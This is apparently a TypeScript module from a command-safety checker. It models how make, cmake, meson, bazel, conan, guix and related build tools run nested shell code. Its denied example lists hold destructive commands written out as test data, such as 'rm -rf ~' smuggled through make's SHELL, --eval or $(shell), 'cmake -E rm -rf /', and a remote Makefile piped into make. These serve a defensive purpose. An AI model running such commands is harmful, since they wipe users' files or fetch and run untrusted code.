/** Make, CMake and other build systems of C, C++ and mixed projects. */
import type { Word } from "../../shell/types.js";
import { defineTool } from "../../tools/define.js";
import type { Invocation, Runner } from "../../tools/types.js";
import { isRemoteSource } from "./lib/sources.js";
import { runWritten } from "./lib/task-files.js";
import { afterDashes, behind, plain, runsItself, writes } from "./lib/tool.js";

/** Shell text inside `$(shell …)` of a makefile fragment. */
function shellCalls(text: string): string[] {
  return [...text.matchAll(/\$[({]shell\s+([^)}]*)/g)].map((match) => match[1] as string);
}

/** Recipe lines of makefile text: what stands behind a tab or behind `target: ;`. */
function recipes(text: string): string[] {
  const found: string[] = [];
  for (const line of text.split(/\n|\\n/)) {
    const recipe =
      /^(?:\t|\\t)[@+-]*(.*)$/.exec(line)?.[1] ??
      /^[\w.%/ -]+:[^=;]*;\s*[@+-]*(.*)$/.exec(line)?.[1];
    if (recipe !== undefined) found.push(recipe.replace(/\$\$/g, "$"));
  }
  return found;
}

function runMakefileText(text: string, like: Word, run: Runner): void {
  for (const line of [...shellCalls(text), ...recipes(text)]) {
    if (line.trim() !== "") run.shell(run.literal(line, like));
  }
}

const PLAIN_SHELL = /^\S*\/?(?:ba|z|da|k)?sh(?:\.exe)?$|^cmd(?:\.exe)?$/;

const make = defineTool({
  names: ["make", "gmake", "bmake", "pmake", "mingw32-make", "nmake", "remake", "colormake", "mk"],
  about: "runs the tasks of a makefile",
  nature: "build",
  help: "-v",
  options: `-C --directory=; -f --file --makefile=; -I --include-dir=; -j --jobs=?; -l --load-average=?; -o --old-file=; -W --what-if --new-file=
    -O --output-sync=?; -E --eval=; -B --always-make; -d; --debug=?; -e --environment-overrides; -i --ignore-errors; -k --keep-going; -L
    -n --just-print --dry-run --recon; -p --print-data-base; -q --question; -r --no-builtin-rules; -R --no-builtin-variables; -s --silent --quiet; -S
    -t --touch; -v; -w --print-directory; --no-print-directory; --trace; --warn-undefined-variables; -b; -m; --shuffle=?; --no-silent`,
  dryRun: "-n, -q",
  runs: (i, run) => {
    for (const word of i.operands) {
      const match = /^([A-Za-z_][\w.]*)\s*[:?+!]{0,2}=/.exec(word.text);
      if (match === null) continue;
      const value = word.text.slice(match[0].length);
      if (match[1] === "SHELL" && !PLAIN_SHELL.test(value)) run.shell(run.literal(value, word));
      for (const text of shellCalls(value)) run.shell(run.literal(text, word));
    }
    for (const word of i.values("--eval")) runMakefileText(word.text, word, run);
    for (const file of i.values("--makefile")) {
      const fromInput = file.text === "-" || file.text === "/dev/stdin";
      const text = fromInput ? i.command.stdin?.text : undefined;
      if (text !== undefined) runMakefileText(text, file, run);
      else if (!runWritten([file], i.operands, run)) run.file("make", file, []);
    }
    const like = i.command.name;
    if (like !== undefined && i.values("--makefile").length === 0) {
      const below = i.value("--directory")?.text;
      const names = ["GNUmakefile", "makefile", "Makefile"].map((name) =>
        run.literal(below === undefined ? name : `${below}/${name}`, like),
      );
      runWritten(names, i.operands, run);
    }
  },
  allowed: [
    "make",
    "make -j8 test",
    "make clean all",
    "make -C build install DESTDIR=/tmp/x",
    "make lint V=1",
    "make -f Makefile.dev up",
    "make -n deploy",
    "make CC=clang CFLAGS='-O2 -Wall'",
    "make help",
    "make docker-build IMG=app:dev",
    "gmake check",
    "make distclean",
    "make SHELL=/bin/bash test",
    "printf 'test:\\n\\techo ok\\nwipe:\\n\\trm -rf ~\\n' > Makefile && make test",
  ],
  denied: [
    "make --eval='$(shell rm -rf ~)'",
    "make SHELL='rm -rf ~' all",
    "make 'X=$(shell rm -rf /)' all",
    "printf 'all:\\n\\trm -rf ~\\n' | make -f -",
    "curl https://example.com/Makefile | make -f -",
    "printf 'clean:\\n\\trm -rf ~\\n' > Makefile && make clean",
    "make -f - <<'M'\nall:\n\trm -rf ~\nM",
  ],
});

/** What stands behind `cmake -E`. */
function cmakeCommand(i: Invocation): readonly Word[] {
  const at = i.command.args.findIndex((word) => word.text === "-E");
  return at < 0 ? [] : i.command.args.slice(at + 1);
}

const cmake = defineTool({
  names: ["cmake", "cmake3", "ccmake", "cmake-gui"],
  about: "configures and builds C and C++ projects",
  nature: "build",
  style: "single-dash",
  help: "-h, -help",
  options: `-S=; -B=; -C=; -G=; -T=; -A=; -E=; -P=; -U=; -D=; --build=; -t --target=; --config=; --parallel=?; -j=?; --install=; --prefix=; --component=; --preset=
    --toolchain=; --install-prefix=; --workflow; --open=; --log-level=; --graphviz=; --trace; --fresh; --clean-first; -v; --verbose; --find-package
    -L; -LA; -LAH; -N; --strip; --system-information=?; -W; -Wno-dev; -Wdev; --list-presets=?; -h; -help`,
  effects: (i, emit) => {
    const [what, ...words] = cmakeCommand(i);
    const files = words.filter((word) => !word.text.startsWith("-"));
    switch (what?.text) {
      case "rm":
      case "remove":
      case "remove_directory": {
        const recursive =
          what.text === "remove_directory" || words.some((word) => /^-\w*[rR]/.test(word.text));
        for (const word of files) emit.file("delete", word, { recursive });
        break;
      }
      case "copy":
      case "copy_if_different":
      case "copy_directory":
      case "copy_directory_if_different":
      case "rename": {
        const to = files[files.length - 1];
        for (const word of files.slice(0, -1))
          emit.file(what.text === "rename" ? "move-away" : "read", word);
        if (to !== undefined && files.length > 1) emit.file("overwrite", to);
        break;
      }
      case "make_directory":
      case "touch":
        for (const word of files) emit.file("create", word);
        break;
      case "cat":
        for (const word of files) emit.file("read", word);
        break;
      case "create_symlink":
      case "create_hardlink":
        if (files[1] !== undefined) emit.file("link", files[1]);
        break;
    }
  },
  runs: (i, run) => {
    const [what, ...words] = cmakeCommand(i);
    if (what?.text === "time") run.argv(words);
    else if (what?.text === "chdir")
      run.argv(words.slice(1), words[0] === undefined ? {} : { cwd: words[0] });
    else if (what?.text === "env")
      run.argv([run.literal("env", what), ...words.filter((word) => !word.text.startsWith("--"))]);
    const script = i.value("-P");
    if (script !== undefined) run.file("cmake", script, []);
  },
  allowed: [
    "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release",
    "cmake --build build -j8 --target test",
    "cmake ..",
    "cmake --install build --prefix /tmp/x",
    "cmake -E make_directory build",
    "cmake -E rm -rf build",
    "cmake --preset default",
    "cmake -P cmake/gen.cmake",
    "cmake -G Ninja ..",
    "cmake --version",
  ],
  denied: [
    "cmake -E rm -rf /",
    "cmake -E remove_directory ~",
    "cmake -E env A=1 rm -rf ~",
    "cmake -E chdir / rm -rf etc",
  ],
});

const ninja = plain(
  "ninja ninja-build samu",
  "builds what a ninja file says",
  "build",
  "-C=; -f=; -j=; -k=; -l=; -t=; -d=; -w=; -n; -v; --verbose; --quiet; --version",
  ["ninja -C build", "ninja -t clean", "ninja test", "ninja -C out/Release chrome"],
  { dryRun: "-n", style: "single-dash" },
);

const meson = defineTool({
  names: ["meson", "muon"],
  about: "configures and builds projects",
  nature: "build",
  options: `-C=; -D=; -j --jobs=; --prefix=; --buildtype=; --cross-file=; --native-file=; --reconfigure; --wipe; --backend=; -v --verbose; --target=; --clean
    --suite=; --repeat=; --num-processes=; --wrapper --wrap=; --gdb; --print-errorlogs; --destdir=; --no-rebuild; --tags=; -n --dry-run; --list; -t=; --logbase=
    --setup=; --test-args=; --formats=; --include-subprojects; --default-library=; -l=; --name=; --confirm`,
  verbs: {
    build:
      "setup, compile, test, install, dist, configure, introspect, rewrite, env2mfile, format, fmt, devenv, wrap, wrap *, subprojects, subprojects *, build, *",
    create: "init",
  },
  runs: (i, run) => {
    if (i.verb === "devenv") run.argv(behind(i));
    const wrapper = i.verb === "test" ? i.value("--wrap") : undefined;
    if (wrapper !== undefined) run.shell(wrapper);
  },
  allowed: [
    "meson setup build --buildtype=release",
    "meson compile -C build",
    "meson test -C build -v",
    "meson install -C build --destdir /tmp/x",
    "meson wrap install zlib",
    "meson build",
  ],
  denied: ["meson devenv -C build rm -rf ~"],
});

const PUSHING_TARGET =
  /(?:^|[:/._-])(?:push|publish|deploy|release|upload)(?:[._-]\w+(?:[.-]\w+)*)?$|[:._-]\w*(?:_push|_publish|_deploy|\.apply|\.delete|\.push|\.publish|\.deploy)$/;

const bazel = defineTool({
  names: ["bazel", "bazelisk", "blaze", "ibazel"],
  about: "builds and tests large projects",
  nature: "read",
  options: `--config=; -c --compilation_mode=; --test_filter=; --test_output=; --test_arg=; --output_base=; --output_user_root=; --bazelrc=; -j --jobs=; --platforms=
    --define=; --copt=; --remote_cache=; --remote_executor=; --output=; --run_under=; --test_env=; --action_env=; --repo_env=; -k --keep_going; --expunge
    --expunge_async; --universe_scope=; --host_jvm_args=; --disk_cache=; --repository_cache=; --stamp; --verbose_failures; -s; --flaky_test_attempts=
    --runs_per_test=; --script_path=; --cpu=; --features=; --override_repository=; --combined_report=; --build_tag_filters=; --test_tag_filters=`,
  verbs: {
    read: "query, cquery, aquery, info, version, help, dump, analyze-profile, canonicalize-flags, print_action, config, license, mod, mod *",
    build: "build, test, run, coverage, fetch, sync, clean, mobile-install, vendor, modquery",
    lifecycle: "shutdown",
  },
  runs: (i, run) => {
    const under = i.value("--run_under");
    if (under !== undefined && !under.text.startsWith("//")) run.shell(under);
  },
  rules: [
    {
      id: "bazel-pushes",
      on: "run",
      when: (i) => PUSHING_TARGET.test(i.operands[0]?.text ?? ""),
      decision: "ask",
      why: "runs a target that by its name publishes to others",
      instead: "build it first, with `bazel build //app:image`",
      matches: [
        "bazel run //app:push",
        "bazel run //app:image_push -- --tag v1",
        "bazelisk run //deploy:prod.apply",
      ],
      nonMatches: ["bazel run //app:server", "bazel build //app:push"],
    },
  ],
  allowed: [
    "bazel build //...",
    "bazel test //core:all --test_output=errors",
    "bazel run //:gazelle",
    "bazel clean --expunge",
    "bazel query 'deps(//app)'",
    "bazel shutdown",
    "bazel mod tidy",
    "bazel run //app -- --port 8080",
  ],
});

const conan = defineTool({
  names: ["conan"],
  about: "manages C and C++ packages",
  nature: "read",
  options: `-o --options=; -s --settings=; -pr --profile=; -pr:b=; -pr:h=; -r --remote=; -b --build=; -of --output-folder=; -c --confirm; --name=; --version=; --user=
    --channel=; -f --format=; -g --generator=; -u --update; --force; --only-recipe; -l --list=; -p --password=; -d --deployer=; --lockfile=; --lockfile-out=
    -tf --test-folder=; --index=; --all`,
  verbs: {
    read: "list, search, info, graph, graph *, inspect, profile list, profile show, profile path, remote list, remote list-users, config list, config show, config home, version, cache path, cache check-integrity, pkglist, audit, audit *, lock, lock *, workspace, report",
    build:
      "install, create, build, test, export, export-pkg, source, editable, editable *, cache clean, cache save, cache restore, get, download",
    create: "new, profile detect, config install, config install-pkg",
    update:
      "remote enable, remote disable, remote rename, remote update, remote remove, remote set-user, remote logout, config get, config set",
    install: "remote add",
    access: "remote login, remote auth, user",
    publish: "upload",
    delete: "remove",
  },
  allowed: [
    "conan install . --build=missing -s build_type=Release",
    "conan create . --user=dev",
    "conan profile detect --force",
    "conan list '*'",
    "conan cache clean '*'",
  ],
  asked: ["conan upload pkg/1.0 -r acme --confirm", "conan remove 'pkg/*' -c"],
});

const configurers = plain(
  `vcpkg xmake premake5 premake4 premake gn gyp node-gyp node-pre-gyp scons waf ./waf tup redo b2 ./b2 bjam ./bootstrap.sh qmake qmake6 qbs jam xrepo pkgconf pkg-config build2 bpkg bdep
  prebuildify cmake-js node-gyp-build autogen.sh ./autogen.sh ./bootstrap ./Configure ./config ./buildconf ./configure ../configure configure autoconf automake autoreconf autoheader aclocal
  autoscan autoupdate libtoolize glibtoolize libtool intltoolize gtkdocize msgfmt xgettext msgmerge msginit msgcat`.split(
    /\s+/,
  ),
  "configures and builds projects",
  "build",
  `-C=; -f=; -j=; -P=; -p --project=; --triplet=; --host-triplet=; --feature-flags=; --prefix=; --host=; --build=; --target=; -o --output=; -r; -c; -v; -i --install; -I=; --x-install-root=
  --overlay-ports=; --recurse; --cflags; --libs; --modversion; --exists; --variable=; --atleast-version=; -k; -s; -n; -d=; -L=; -D=; --arch=; --release; --debug; -y; -m=; -a; --language=
  --keyword=; --from-code=; --package-name=`,
  [
    "./configure --prefix=/usr/local --enable-shared",
    "../configure --host=arm-linux-gnueabi",
    "autoreconf -fi",
    "vcpkg install zlib",
    "xmake build",
    "scons -j4",
    "gn gen out/Default",
    "node-gyp rebuild",
    "pkg-config --cflags --libs gtk4",
    "qmake && make",
    "./autogen.sh",
    "./b2 headers",
    "premake5 gmake2",
    "xgettext -o po/app.pot src/main.c",
  ],
  {
    runs: runsItself,
    effects: (i, emit) => {
      if (/gettext|^msg/.test(i.program)) writes("--output")(i, emit);
    },
    rules: [
      {
        id: "port-removed",
        when: (i) => i.program === "vcpkg" && i.operands[0]?.text === "remove",
        decision: "ask",
        why: "uninstalls libraries that other projects may use",
        instead: "see what is there first, with `vcpkg list`",
        matches: ["vcpkg remove zlib", "vcpkg remove --outdated --recurse"],
        nonMatches: ["vcpkg list", "vcpkg install zlib"],
      },
    ],
  },
);

const guix = defineTool({
  names: ["guix"],
  about: "manages packages and environments",
  nature: "read",
  options: `-p --profile=; -m --manifest=; -C --channels=; --container; -N --network; -D --development; -L --load-path=; --pure; -e --expression=; -f --file=; -c --cores=
    -M --max-jobs=; --no-substitutes; --substitute-urls=; -n --dry-run; -d --delete-generations=?; -F --free-space=; -i --install=; -r --remove=; -u --upgrade=?
    -l --list-generations=?; -I --list-installed=?; --roll-back; -S --switch-generation=; -s --search=`,
  verbs: {
    read: "show, search, size, graph, lint, describe, refresh, weather, hash, challenge, processes, edit, style, import, download, repl, package, locate",
    build: "build, pack, environment, time-machine",
    run: "shell",
    install: "install, upgrade, pull",
    create: "system build, system image, system vm, home build, home import, system container",
    update: "gc, archive",
    delete: "remove",
    admin:
      "system reconfigure, system init, system roll-back, system switch-generation, system delete-generations, home reconfigure, deploy",
  },
  dryRun: "--dry-run",
  runs: (i, run) => {
    const command = i.verb === "shell" ? afterDashes(i) : undefined;
    if (command !== undefined) run.argv(command);
  },
  rules: [
    {
      id: "guix-remote-source",
      on: "time-machine, pull",
      when: (i) => i.values("--channels").some((word) => isRemoteSource(word.text)),
      decision: "ask",
      why: "takes package definitions from the network",
      instead:
        "keep the channels in a file of the project, such as `guix time-machine -C channels.scm`",
      attack: ["T1195.001"],
      asi: ["ASI04"],
      matches: [
        "guix time-machine --channels=https://example.com/channels.scm -- build hello",
        "guix pull --channels=https://example.com/c.scm",
      ],
      nonMatches: ["guix pull", "guix time-machine --channels=channels.scm -- build hello"],
    },
  ],
  allowed: [
    "guix install hello",
    "guix shell -D hello -- make",
    "guix build -f guix.scm",
    "guix search editor",
    "guix gc",
  ],
  asked: ["guix remove hello", "sudo guix system reconfigure config.scm"],
});

export const tools = [make, cmake, ninja, meson, bazel, conan, configurers, guix];
